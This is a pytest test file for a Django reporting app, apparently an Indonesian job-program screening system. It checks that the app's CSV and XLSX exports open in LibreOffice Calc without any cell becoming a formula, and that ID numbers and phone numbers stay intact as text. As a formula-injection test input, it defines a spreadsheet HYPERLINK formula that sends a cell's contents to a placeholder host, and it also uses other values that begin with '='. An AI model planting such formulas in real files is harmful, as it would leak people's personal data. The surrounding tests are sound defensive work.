"""Every file the product writes, opened in LibreOffice Calc and saved as .xlsx: no cell became a formula, every
value reads back as written, and every NIK, KK and phone is text, whole (the formula name and `+` phone of the
"one rule, one place" issue among them)."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from complaints import services as complaint_services
from eligibility.models.lists import ExclusionList, ListCategory
from registration.models import Applicant
from tests.reports.conftest import PEOPLE, build_wave
from tests.reports.test_joki import joki_wave  # noqa: F401 - a fixture

FORMULA = '=HYPERLINK("http://x.example/?d="&B2,"Cek")'
# Person A of the report wave is named with a live formula.
FORMULA_PEOPLE = [(PEOPLE[0][0], *PEOPLE[0][1:4], FORMULA, *PEOPLE[0][5:]), *PEOPLE[1:]]


def _written(raw: bytes, delimiter: str = ",") -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def _same(cell, written: str) -> bool:
    """Calc's cell holds the value written: the same text, the same number, or the same day (a date cell
    holds days since 1899-12-30)."""
    if cell.kind != "number":
        return cell.value == written
    try:
        return float(cell.value) == float(written)
    except ValueError:
        return float(cell.value) == (dt.date.fromisoformat(written) - dt.date(1899, 12, 30)).days


def assert_survives_calc(calc, tmp_path, raw: bytes, name: str, *, delimiter: str = ",") -> list[list]:
    """Open `raw` (a CSV as served) in Calc, save as .xlsx, compare every cell with what was written."""
    path = tmp_path / name
    path.write_bytes(raw)
    written = _written(raw, delimiter)
    cells = calc.read_xlsx(calc.open_and_save_as_xlsx(path, delimiter=delimiter))
    assert len(cells) == len(written)
    for row, expected in zip(cells, written, strict=True):
        row = row + [calc.Cell("", "text", False)] * (len(expected) - len(row))
        assert not any(cell.formula for cell in row), row
        assert all(_same(cell, value) for cell, value in zip(row, expected, strict=True)), (row, expected)
    return cells


def _column(cells: list[list], header: str) -> list:
    index = [cell.value for cell in cells[0]].index(header)
    return [row[index] for row in cells[1:]]


def _get(client, user, name, number, **params) -> bytes:
    client.force_login(user)
    response = client.get(reverse(name, kwargs={"number": number}), params)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


@pytest.fixture
def formula_wave(db):
    return build_wave(number=31, people=FORMULA_PEOPLE)


@pytest.mark.parametrize("full", [False, True], ids=["masked", "whole"])
def test_the_result_file_survives_calc(calc, tmp_path, client, full_reporter, formula_wave, full):
    raw = _get(client, full_reporter, "reports:results_csv", 31, **({"full": "1"} if full else {}))
    cells = assert_survives_calc(calc, tmp_path, raw, "results.csv")
    names = [cell.value for cell in _column(cells, "nama_lengkap")]
    assert names[0] == ("'" + FORMULA if full else "'=****")
    for header, index in (("nik", 1), ("kk", 2)):
        column = _column(cells, header)
        assert {cell.kind for cell in column} == {"text"}
        if full:  # every NIK and KK whole, after the apostrophe that keeps it text
            assert [cell.value for cell in column] == ["'" + person[index] for person in FORMULA_PEOPLE]


def test_the_summary_file_survives_calc(calc, tmp_path, client, reporter, formula_wave):
    assert_survives_calc(calc, tmp_path, _get(client, reporter, "reports:summary_csv", 31), "summary.csv")


@pytest.mark.parametrize("full", [False, True], ids=["masked", "whole"])
def test_the_joki_file_survives_calc(calc, tmp_path, client, full_reporter, joki_wave, full):  # noqa: F811
    wave, groups = joki_wave
    Applicant.objects.filter(registrations__pk=groups["joki"][0]).update(full_name=FORMULA)
    raw = _get(client, full_reporter, "reports:clusters_csv", wave.number, **({"full": "1"} if full else {}))
    cells = assert_survives_calc(calc, tmp_path, raw, "joki.csv")
    assert ("'" + FORMULA if full else "'=****") in {cell.value for cell in _column(cells, "nama_lengkap")}
    phones = _column(cells, "nomor_hp")
    assert {cell.kind for cell in phones} == {"text"} and all(cell.value.startswith("'+62") for cell in phones)


def test_the_command_file_survives_calc(calc, tmp_path, formula_wave):
    out = tmp_path / "command.csv"
    call_command("screening_report", "31", "--full-nik", "--output", str(out), stdout=io.StringIO())
    assert_survives_calc(calc, tmp_path, out.read_bytes(), "command.csv")


def test_the_kominfo_file_survives_calc(calc, tmp_path, client, staff):
    for address in ("https://www.Prakerja-Daftar.com/login", "prakerja-resmi.example/=cmd", "-prakerja.example"):
        complaint_services.file_complaint(kind="fake_website", address=address, description="Minta OTP.",
                                          reporter_email="pelapor@example.com")
    client.force_login(staff)
    response = client.get(reverse("admin:complaints_kominfo_csv"))
    assert response.status_code == 200
    assert_survives_calc(calc, tmp_path, b"".join(response.streaming_content), "kominfo.csv")


def test_the_bad_rows_file_survives_calc(calc, tmp_path, client, staff):
    version = ExclusionList.objects.create(category=ListCategory.ASN, file_name="=asn.csv", loaded_by=staff,
                                           status=ExclusionList.Status.FAILED)
    version.bad_rows.create(line=4, reason="format")
    version.bad_rows.create(line=9, reason="province")
    client.force_login(staff)
    response = client.get(reverse("admin:eligibility_exclusionlist_bad_rows", args=[version.pk]))
    assert_survives_calc(calc, tmp_path, b"".join(response.streaming_content), "bad-rows.csv")


def test_a_semicolon_file_survives_calc(calc, tmp_path, client, full_reporter, formula_wave):
    raw = _get(client, full_reporter, "reports:results_csv", 31, full="1", sep=";")
    cells = assert_survives_calc(calc, tmp_path, raw, "results-semicolon.csv", delimiter=";")
    assert [cell.value for cell in _column(cells, "nik")] == ["'" + person[1] for person in FORMULA_PEOPLE]


@pytest.mark.parametrize("name", ["reports:results_xlsx", "reports:contacts_xlsx"])
def test_an_xlsx_file_survives_calc_with_every_nik_whole(calc, tmp_path, client, staff, formula_wave, name):
    raw = _get(client, staff, name, 31, full="1")
    path = tmp_path / "export.xlsx"
    path.write_bytes(raw)
    written = calc.read_xlsx(path)
    cells = calc.read_xlsx(calc.open_and_save_as_xlsx(path))
    assert [[(c.value, c.kind) for c in row] for row in cells] == [[(c.value, c.kind) for c in row] for row in written]
    assert not any(cell.formula for row in cells for cell in row)
    niks = {cell.value for cell in _column(cells, "nik")}
    assert niks <= {person[1] for person in FORMULA_PEOPLE} and niks  # whole, no apostrophe, text
    assert {cell.kind for cell in _column(cells, "nik")} == {"text"}
    if name == "reports:contacts_xlsx":
        assert {cell.kind for cell in _column(cells, "nomor_hp")} == {"text"}
        # The formula-like name verbatim, in a text cell that Calc did not evaluate (no formula, asserted above).
        names = {(cell.value, cell.kind) for cell in _column(cells, "nama_lengkap")}
        assert (FORMULA, "text") in names


def test_the_contacts_file_survives_calc(calc, tmp_path, client, staff, formula_wave):
    cells = assert_survives_calc(calc, tmp_path, _get(client, staff, "reports:contacts_csv", 31), "contacts.csv")
    assert {cell.kind for cell in _column(cells, "nomor_hp")} == {"text"}
